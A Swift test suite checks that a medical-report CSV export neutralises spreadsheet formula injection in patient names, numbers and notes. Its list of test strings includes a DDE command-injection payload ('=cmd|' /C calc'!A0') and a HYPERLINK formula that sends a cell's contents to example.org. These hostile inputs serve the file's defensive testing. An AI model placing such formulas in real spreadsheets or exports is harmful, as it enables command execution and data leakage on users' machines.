import Foundation
import Record
import Remedi
import Support
import Testing

@testable import Reports
@testable import Web

/// A file full of what a spreadsheet could run or spoil. Where the environment names a path in `CSV_SAMPLE`, the
/// file is written there for `Tests/System/Spreadsheet/open_csv.py`, which opens it in a real spreadsheet.
@Suite struct NastyReportTests {
  private static let texts = [
    "=1+1", "=HYPERLINK(\"https://example.org/?\"&A1,\"open\")", "=cmd|' /C calc'!A0", "+49 30 901820", "-5 kg", "-5",
    "@SUM(1)", "\tafter a tab", "\rafter a CR", "  =1+1", "\u{FF1D}1+1", "\u{FF0B}1", "\u{2212}1", "'=1+1", "'t Hooft",
    "00123", "12345678901234567890", "12E5", "TRUE", "1/2", "say \"hi\"", "a,b;c", "two\nlines\r\nand three",
    "Äpfel für Łukasz 🙂", "\u{202E}right to left", "e\u{301}", " blanks around ", "#REF!", "{=1}", "%41", "\"", "''",
    "<b>&amp;</b>",
  ]

  @Test func everyTextArrivesAndNoneBeginsLikeAFormula() async throws {
    let scene = try await ReportScene()
    for (index, text) in Self.texts.enumerated() {
      let file = try await scene.patient(.init(name: text, healthCareNumber: text))
      let prescription = try await scene.prescribe(text, to: file, from: "2026-03-01", until: "2026-03-01")
      try await scene.record(
        prescription, "2026-03-01", "08:00", at: "2026-03-01T07:\(10 + index):00.125+01:00",
        feedback: .init(pain: 0, effort: 10, note: text), number: index)
    }
    let answer = try await scene.answer("from=2026-03-01&to=2026-03-01")
    let report = try Report(answer)
    #expect(report.rows.count == Self.texts.count * 2)
    let recorded = report.rows.filter { $0["status"] == "completed" }
    for column in ["patient", "health_care_number", "name", "note"] {
      #expect(recorded.compactMap { $0[column] }.sorted() == Self.texts.map(SpreadsheetText.disarm).sorted())
    }
    #expect(recorded.allSatisfy { ($0["delay_minutes"].flatMap(Int.init) ?? 0) < 0 })
    for row in report.rows {
      for (column, cell) in row where column != "delay_minutes" {
        #expect(cell.unicodeScalars.first.map { "=+-@\t\r\n".unicodeScalars.contains($0) } != true)
      }
    }
    if let path = ProcessInfo.processInfo.environment["CSV_SAMPLE"] {
      try Data(answer.text.utf8).write(to: URL(filePath: path))
    }
  }
}
